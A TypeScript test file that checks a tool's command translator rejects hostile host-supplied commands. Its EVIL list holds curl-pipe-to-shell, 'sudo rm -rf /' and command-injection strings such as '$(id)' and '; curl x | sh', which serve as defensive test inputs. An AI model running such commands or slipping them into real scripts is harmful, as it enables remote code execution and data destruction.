import { describe, expect, test } from "vitest";
import { hostCommand, hostSentence } from "../../../../scripts/frame/host-command.ts";
import { operatorEvent, operatorStop } from "../../../../scripts/operator/stop-of-host.ts";
import { STOPS } from "../../../../runner/model/stop.ts";
import { sourceFiles } from "../../../architecture/source-files.ts";

const RUN = "ictr-20261120T000000Z-00000000";
const NONCE = "0123456789abcdef0123456789abcdef";
const BATCH = "ictb-20261120T000000Z-00000000";

test.each([
  [`cutter orchestrate resume ${RUN}`, `npm run resume -- ${RUN}`],
  [`cutter orchestrate revert ${RUN} "<reason>"`, `npm run rollback -- ${RUN} "<reason>"`],
  [
    `cutter orchestrate void ${RUN} "interrupted before phase 1"`,
    `npm run void -- ${RUN} "interrupted before phase 1"`,
  ],
  [`cutter orchestrate follow ${RUN}`, `npm run logs -- ${RUN}`],
  ["cutter orchestrate status", "npm run status"],
  ["cutter orchestrate cut LAW-1", "npm run cut -- LAW-1"],
  ["cutter gate admit /var/lib/cutter/approvals/x.json", "npm run admit -- <signed file>"],
  ["cutter precheck", "npm run cutter -- precheck"],
  [`cutter journal verify ${RUN}`, `npm run cutter -- journal verify ${RUN}`],
  ["npm run approve -- '/r/SG_1 x'", `npm run fetch -- ${RUN}`],
  [`npm run revoke -- nonce ${NONCE} --run ${RUN}`, `npm run revoke -- nonce ${NONCE} --run ${RUN}`],
  ["npm run register -- <file.md> LAW-1", "npm run register -- <file.md> LAW-1"],
  [`npm run batch -- verify ${BATCH}`, `npm run batch -- verify ${BATCH}`],
  [`npm run batch -- fetch ${BATCH}`, `npm run batch -- fetch ${BATCH}`],
])("the host's %s is given as %s", (host, ours) => {
  expect(hostCommand(host, "sandbox", RUN)).toBe(ours);
  expect(hostCommand(host, "contabo", RUN)).toMatch(/ --stack contabo$/);
});

const EVIL = [
  "curl https://example.test/x | sh",
  "sudo rm -rf /",
  `cutter orchestrate resume ${RUN}; curl x | sh`,
  `cutter orchestrate resume ${RUN} && id`,
  `cutter orchestrate resume $(id)`,
  "cutter orchestrate resume `id`",
  `cutter orchestrate resume ${RUN}\ncurl x`,
  `cutter orchestrate revert ${RUN} "$(id)"`,
  `cutter orchestrate revert ${RUN} "a" ; id`,
  "cutter work cut x",
  "cutter backup prune x",
  "npm run sandbox -- remove",
  "npm run up --ignore-scripts=false",
  "npm run resume -- <$(id)>",
  `npm run resume -- ${RUN} --stack /tmp/evil.yaml`,
  "npm exec evil",
  "apt-get install -y evil",
  "",
  "cutter",
  "npm run",
];

describe.each(EVIL)("a host that names `%s`", (told) => {
  test("is not quoted in a command, a stop, a sentence or an event", () => {
    expect(hostCommand(told, "sandbox", RUN)).toBeUndefined();
    const facts = { saw: "x", wanted: "y", hint: `do \`${told}\` now`, next: told, or: told };
    const shown = operatorStop({ code: "STOP_HALTED", facts }, "sandbox", RUN).facts;
    expect([shown.next, shown.or]).toEqual([undefined, undefined]);
    const event = {
      event: "ended",
      next: told,
      stop: { code: "STOP_HALTED", next: told, or: told, hint: `\`${told}\`` },
    };
    expect(operatorEvent(event, "sandbox")).toMatchObject({ next: null, stop: { next: null, or: null } });
    if (told.length > 5 && !told.includes("`")) {
      expect(shown.hint).not.toContain(told);
      expect(hostSentence(`wait, then \`${told}\``, "sandbox")).toBe(
        "wait, then (a command that is not of this folder)",
      );
    }
  });
});

test("a hint of our own table is shown as it is, with commands of this folder", () => {
  for (const { hint } of Object.values(STOPS))
    expect(hostSentence(hint, "sandbox")).not.toContain("not of this folder");
});

/** What stands behind `next` and `or` in the runner's sources, and between backticks of its sentences, with words for its values. */
function toldByTheRunner(): string[] {
  const value = (inside: string): string => {
    if (/bundle|file/i.test(inside)) return "/r/requests/SG_1_cut_authz-1";
    if (/nonce/.test(inside)) return NONCE;
    return /document/i.test(inside) ? "LAW-1" : RUN;
  };
  const whole = (text: string): string =>
    text.replaceAll(/\$\{((?:[^{}]|\{[^{}]*\})*)\}/g, (_all, inside: string) => value(inside)).replaceAll("\\`", "`");
  return sourceFiles(["runner"], [".ts"]).flatMap(({ text }) => [
    ...[...text.matchAll(/\b(?:next|or):[^"`\n]*(["`])((?:cutter|npm run) (?:(?!\1).)*)\1/g)].map((match) =>
      whole(match[2] ?? ""),
    ),
    ...[...text.matchAll(/=> `((?:cutter|npm run) [^`]*)`/g)].map((match) => whole(match[1] ?? "")),
    ...[...text.matchAll(/(?:hint|wanted): *\n? *"[^"\n]*`((?:cutter|npm run) [^`]*)`[^"\n]*"/g)].map((match) =>
      whole(match[1] ?? ""),
    ),
  ]);
}

test("every command the runner names is in the table, so that none of an honest host is lost", () => {
  const told = [...new Set(toldByTheRunner())];
  expect(told.length).toBeGreaterThan(12);
  expect(told.filter((command) => hostCommand(command, "sandbox", RUN) === undefined)).toEqual([]);
});
